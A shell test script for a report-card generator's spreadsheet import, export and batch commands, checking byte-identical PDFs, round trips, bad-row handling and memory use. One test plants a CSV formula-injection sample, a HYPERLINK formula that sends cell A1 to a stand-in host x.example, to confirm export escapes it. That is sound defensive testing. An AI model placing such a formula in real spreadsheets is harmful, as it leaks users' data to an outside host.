#!/bin/sh
# Report cards from a spreadsheet (import, export, batch SHEET): the sample
# sheet data/sheets/cards-2021 (CSV, XLSX, and an XLSX written by openpyxl
# with date cells) gives data files whose PDFs are byte for byte those of
# data/states; export then import round-trips; a bad row writes nothing.
# One "ok"/"not ok" line per check. Needs ROOT, BIN, WORK (from tests/run.sh).
S="$WORK/sheets"
rm -rf "$S"
mkdir -p "$S"
check() { if [ "$2" = 0 ]; then echo "ok - $1"; else echo "not ok - $1"; [ -n "$3" ] && printf '%s\n' "$3" | sed 's/^/    /'; fi; }
PY=/usr/bin/python3
export REPORTGEN_NO_PROGRESS=1
# The rows are staged under TMPDIR: a folder of this test's own, to see that none is left.
mkdir -p "$S/tmp"
export TMPDIR="$S/tmp"

# The shipped cards rendered once, the reference for every other form.
out=$(cd "$ROOT" && $VG "$BIN" batch data/states -o "$S/ref" 2>&1); rc=$?
check "data/states renders (the reference PDFs)" $rc "$out"

# same_pdfs DIR: every reference PDF has a byte-identical twin in DIR, and DIR nothing else.
same_pdfs() {
    diff=""
    for f in "$S"/ref/*.pdf; do
        cmp -s "$f" "$1/$(basename "$f")" || diff="$diff $(basename "$f")"
    done
    [ "$(ls "$1" | wc -l)" = "$(ls "$S/ref" | wc -l)" ] || diff="$diff (count $(ls "$1" | wc -l))"
    [ -z "$diff" ] || { echo "differ:$diff"; return 1; }
}

# The shipped sheet is what export writes of data/states, and the shipped
# XLSX what the generator makes of the CSV: they cannot drift apart.
out=$(cd "$ROOT" && $VG "$BIN" export data/states -o "$S/export.csv" 2>&1); rc=$?
[ $rc = 0 ] && [ -z "$out" ] && cmp -s "$S/export.csv" "$ROOT/data/sheets/cards-2021.csv"
check "export data/states writes data/sheets/cards-2021.csv byte for byte" $? "$out$(diff "$ROOT/data/sheets/cards-2021.csv" "$S/export.csv" 2>&1 | head -5)"
$PY "$ROOT/tests/sheets/make_xlsx.py" "$ROOT/data/sheets/cards-2021.csv" "$S/made.xlsx" &&
    cmp -s "$S/made.xlsx" "$ROOT/data/sheets/cards-2021.xlsx"
check "data/sheets/cards-2021.xlsx is what tests/sheets/make_xlsx.py makes of the CSV" $?

# Each form of the sheet: import, then render; and batch straight from it.
forms="cards-2021.csv cards-2021.xlsx"
cp "$ROOT/data/sheets/cards-2021.csv" "$ROOT/data/sheets/cards-2021.xlsx" "$S/"
if $PY -c 'import openpyxl' 2>/dev/null; then
    $PY "$ROOT/tests/sheets/openpyxl_copy.py" "$ROOT/data/sheets/cards-2021.csv" "$S/openpyxl.xlsx"
    forms="$forms openpyxl.xlsx"
fi
# The same sheet with a byte-order mark, semicolons and CRLF line ends (Excel's CSV in much of Europe).
$PY - "$ROOT/data/sheets/cards-2021.csv" "$S/semicolon.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
with open(sys.argv[2], "w", encoding="utf-8-sig", newline="") as f:
    csv.writer(f, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_ALL).writerows(rows)
PY
forms="$forms semicolon.csv"
for f in $forms; do
    sheet="--sheet Sheet1"
    case $f in openpyxl.xlsx) sheet="--sheet Cards" ;; *.csv) sheet="" ;; esac
    n=${f%.*}-${f##*.}
    # shellcheck disable=SC2086
    out=$($VG "$BIN" import "$S/$f" $sheet -o "$S/$n" 2>&1); rc=$?
    [ $rc = 0 ] && [ -z "$out" ] && [ "$(ls "$S/$n" | wc -l)" = 51 ]
    check "import $f: 51 cards, no message" $? "$out"
    out=$("$BIN" batch "$S/$n" -o "$S/$n-pdf" 2>&1 | tail -3) && res=$(same_pdfs "$S/$n-pdf")
    check "import $f: the 51 PDFs are byte for byte data/states' PDFs" $? "$res"
    # shellcheck disable=SC2086
    out=$($VG "$BIN" batch "$S/$f" $sheet -o "$S/$n-batch" 2>&1) && res=$(same_pdfs "$S/$n-batch")
    check "batch $f: the 51 PDFs are byte for byte data/states' PDFs" $? "$res$(printf '%s\n' "$out" | grep -v '^ok ' | head -5)"
done
left=$(ls -A "$TMPDIR")
[ -z "$left" ]; check "import and batch leave no folder of staged rows behind" $? "$left"

# Round trip: the imported cards export to the same sheet, and import again to the same files.
out=$("$BIN" export "$S/cards-2021-csv" -o "$S/again.csv" 2>&1) && cmp -s "$S/again.csv" "$ROOT/data/sheets/cards-2021.csv"
check "export of the imported cards is the sheet again" $? "$out"
out=$("$BIN" import "$S/again.csv" -o "$S/again" 2>&1) && diff -r "$S/cards-2021-csv" "$S/again" >/dev/null
check "and imports to the same files" $? "$out"

# A text a spreadsheet would run as a formula ("=HYPERLINK(...)", "@SUM(...)")
# is exported with an apostrophe before it, and imported back without it.
mkdir -p "$S/formula"
sed -e '13s|<highlights>Sample text|<highlights>=HYPERLINK("http://x.example/?"\&amp;A1) Sample text|' \
    -e '17s|<highlights>Placeholder|<highlights>@SUM(1,2) Placeholder|' "$ROOT/data/states/wyoming.xml" > "$S/formula/wyoming.xml"
same_hl() { # the text of highlights number $1, before and after
    python3 - "$1" "$S/formula/wyoming.xml" "$S/formula-back/wyoming.xml" <<'PY'
import sys, xml.etree.ElementTree as ET
k = int(sys.argv[1]) - 1
a, b = ([h.text for h in ET.parse(f).iter('highlights')][k] for f in sys.argv[2:4])
sys.exit(0 if a == b and a[0] in '=@' else 1)
PY
}
out=$("$BIN" export "$S/formula" -o "$S/formula.csv" 2>&1)
row=$(grep '^Wyoming,' "$S/formula.csv")
printf '%s\n' "$row" | grep -qF '"'"'"'=HYPERLINK(""http://x.example/?""&A1) Sample text' &&
    printf '%s\n' "$row" | grep -qF '"'"'"'@SUM(1,2) Placeholder' &&
    "$BIN" import "$S/formula.csv" -o "$S/formula-back" >/dev/null 2>&1 &&
    same_hl 1 && same_hl 2
check "a text that reads as a formula is exported as '=..., and imported back as it was" $? "$out$(grep '^Wyoming' "$S/formula.csv" | cut -c1-300)"

# One bad row: nothing is written, into a new folder or an existing one.
sed 's/^Wyoming,2021,/Wyoming,2021x,/' "$ROOT/data/sheets/cards-2021.csv" > "$S/bad.csv"
out=$("$BIN" import "$S/bad.csv" -o "$S/new" 2>&1); rc=$?
[ $rc = 1 ] && [ ! -e "$S/new" ] && [ "$out" = "$S/bad.csv:52:2: error: year '2021x' is not a year (write it as 2021)" ]
check "a bad last row: exit 1, its cell named, no folder made" $? "exit $rc: $out"
mkdir -p "$S/old" && printf 'an earlier card\n' > "$S/old/alabama.xml"
out=$("$BIN" import "$S/bad.csv" -o "$S/old" 2>&1); rc=$?
[ $rc = 1 ] && [ "$(ls -A "$S/old")" = "alabama.xml" ] && printf 'an earlier card\n' | cmp -s - "$S/old/alabama.xml"
check "a bad last row: an existing folder is left as it was" $? "exit $rc: $(ls -A "$S/old")"
out=$("$BIN" import "$ROOT/data/sheets/cards-2021.csv" -o "$S/old" 2>&1); rc=$?
[ $rc = 0 ] && [ "$(ls -A "$S/old" | wc -l)" = 51 ] && cmp -s "$S/old/alabama.xml" "$S/cards-2021-csv/alabama.xml"
check "a good sheet replaces the earlier card and leaves no temporary file" $? "exit $rc: $out $(ls -A "$S/old" | grep -v '\.xml$')"

# A batch from a sheet with bad rows: those fail at their cells, the others render.
sed -e 's/^Texas,2021,2021-11-01,I,/Texas,2021,2021-11-01,IV,/' "$S/bad.csv" > "$S/bad2.csv"
out=$("$BIN" batch "$S/bad2.csv" -o "$S/bad2" 2>&1); rc=$?
n=$(ls "$S/bad2" | wc -l)
[ $rc = 1 ] && [ "$n" = 49 ] && printf '%s\n' "$out" | grep -qxF "$S/bad2.csv:45:4: error: tier 'IV' is not a tier of framework 'advanced-2021' ('I', 'II', 'III')" &&
    printf '%s\n' "$out" | grep -qF "49 rendered, 2 failed"
check "batch of a sheet with two bad rows: 49 PDFs, the two told at their cells" $? "exit $rc, $n PDFs: $out"

# A sheet of the figures alone, the rest from a template card (--template):
# its title, dates and learn-more entries, with the state's name, its
# capitals and its slug made each row's. The 50 invented cards come back whole.
$PY - "$ROOT/data/sheets/cards-2021.csv" "$S/figures.csv" <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")))
drop = {i for i, h in enumerate(rows[0])
        if h in ("Year", "Published", "Sample", "Title", "Organization") or h.startswith("Learn more")}
with open(sys.argv[2], "w", encoding="utf-8", newline="") as f:
    csv.writer(f, lineterminator="\n").writerows(
        [v for i, v in enumerate(r) if i not in drop] for r in rows if r[0] != "Connecticut")
PY
out=$($VG "$BIN" import "$S/figures.csv" --template "$ROOT/data/states/wyoming.xml" -o "$S/figures" 2>&1); rc=$?
[ $rc = 0 ] && [ -z "$out" ] && [ "$(ls "$S/figures" | wc -l)" = 50 ]
check "import of the figures alone with --template: 50 cards, no message" $? "$out"
out=$("$BIN" batch "$S/figures" -o "$S/figures-pdf" 2>&1 | tail -3)
diff=""
for f in "$S"/figures-pdf/*.pdf; do cmp -s "$f" "$S/ref/$(basename "$f")" || diff="$diff $(basename "$f")"; done
[ -z "$diff" ] && [ "$(ls "$S/figures-pdf" | wc -l)" = 50 ]
check "their PDFs are byte for byte data/states' (District of Columbia's capitals and slug too)" $? "differ:$diff $out"

# Memory: a worksheet part of 15 MB of empty cells and a sharedStrings part
# of 16 MB of empty strings (read as trees, 536 MB and 341 MB) are read as
# streams: each import under 150 MB at its peak (40 and 72 MB measured).
# (Not under valgrind or AddressSanitizer, whose own memory would count.)
if [ -z "$VG" ] && ! ldd "$BIN" 2>/dev/null | grep -q libasan; then
    rows=$(printf '<row>%s</row>' "$(printf '<c/>%.0s' $(seq 900))")
    big=""
    for f in ws ss; do
        if [ $f = ws ]; then
            fill="xl/worksheets/sheet1.xml </sheetData> $rows 4400"
        else
            fill="xl/sharedStrings.xml </sst> <si><r><t/></r></si> 800000"
        fi
        # shellcheck disable=SC2086
        (cd "$ROOT" && $PY tests/sheets/make_xlsx.py tests/errors/sheet-base.csv "$S/$f.xlsx" --fill $fill)
        peak=$($PY -c '
import resource, subprocess, sys
r = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)' "$BIN" import "$S/$f.xlsx" -o "$S/$f-cards")
        [ "${peak% *}" = 0 ] && [ "${peak#* }" -lt 153600 ] || big="$big $f: exit ${peak% *}, ${peak#* } KB;"
    done
    [ -z "$big" ]
    check "a 16 MB worksheet or shared strings part of small elements: imported under 150 MB" $? "$big"
fi
